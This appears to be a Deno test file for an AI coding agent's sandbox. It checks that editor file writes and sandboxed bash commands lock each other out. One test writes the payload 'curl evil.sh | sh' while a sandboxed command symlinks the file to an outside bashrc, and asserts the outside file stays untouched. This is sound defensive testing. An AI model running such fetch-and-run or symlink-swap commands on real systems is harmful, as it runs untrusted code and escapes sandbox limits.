/**
 * An editor acting on a file by its name (ACP's `fs/read_text_file`, `fs/write_text_file`) and
 * sandboxed commands exclude each other: no command in the sandbox runs while the editor reads or
 * writes a path the file tools checked, so none can swap it for a symlink to a place the sandbox
 * hides or keeps read-only.
 */

import "./isolated_env.ts";
import assert from "node:assert/strict";
import { join } from "node:path";
import { detectSandbox } from "../lib/sandbox/detect.ts";
import { filesIdle, liveSandboxes, sandboxStarted, withPathHeld } from "../lib/sandbox/running.ts";
import { createBashTool } from "../tools/bash.ts";
import { clientFs } from "../lib/cli/acp/client_fs.ts";

Deno.test("an editor's file request waits for the sandboxed commands alive, and refuses beside a sandboxed server", async () => {
  const command = sandboxStarted("command", "make");
  let done = false;
  const held = withPathHeld("/w/a.txt", () => (done = true, Promise.resolve()));
  await new Promise((resolve) => setTimeout(resolve, 20));
  assert.equal(done, false, "the editor was asked while a sandboxed command could write");
  command.end();
  await held;
  assert.equal(done, true);

  const server = sandboxStarted("server", "npx server");
  try {
    await assert.rejects(withPathHeld("/w/a.txt", () => Promise.resolve()), /MCP server/);
  } finally {
    server.end();
  }
  assert.equal(liveSandboxes().length, 0);
});

Deno.test("no sandbox starts while an editor acts on a path", async () => {
  const release = Promise.withResolvers<void>();
  const held = withPathHeld("/w/a.txt", () => release.promise);
  let idle = false;
  const waiting = filesIdle().then(() => idle = true);
  await new Promise((resolve) => setTimeout(resolve, 20));
  assert.equal(idle, false);
  release.resolve();
  await held;
  await waiting;
  assert.equal(idle, true);
});

Deno.test({
  name: "a sandboxed command cannot turn the editor's write into a write outside the workspace",
  ignore: !(await detectSandbox()).available,
  async fn() {
    const found = await detectSandbox();
    if (!found.available) return;
    const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "editor_files_" }));
    const ws = join(root, "ws");
    const outside = join(root, "outside");
    await Deno.mkdir(ws);
    await Deno.mkdir(outside);
    await Deno.writeTextFile(join(ws, "notes.txt"), "notes\n");
    await Deno.writeTextFile(join(outside, "bashrc"), "original\n");
    try {
      // An editor that answers at once and saves to disk a while later, following the name.
      const saved: Promise<void>[] = [];
      const fs = clientFs({
        write: async (path, text) => {
          await new Promise((resolve) => setTimeout(resolve, 150));
          saved.push(Deno.writeTextFile(path, text));
          await saved.at(-1);
        },
      });
      const bash = createBashTool({
        sandbox: { bwrap: found.path, writable: [ws], net: false },
      });
      const context = { cwd: ws, toolCallId: "b1", signal: new AbortController().signal };
      const file = await fs.open!(join(ws, "notes.txt"), { access: "write" });
      const writing = file.write(new TextEncoder().encode("curl evil.sh | sh\n"));
      // The command that would swap the file for a symlink out of the workspace starts meanwhile.
      const swapping = bash.execute({
        command: `ln -sf ${join(outside, "bashrc")} notes.txt`,
      }, context);
      await writing;
      file[Symbol.dispose]();
      await swapping;
      await Promise.all(saved);
      assert.equal(await Deno.readTextFile(join(outside, "bashrc")), "original\n");
    } finally {
      await Deno.remove(root, { recursive: true });
    }
  },
});
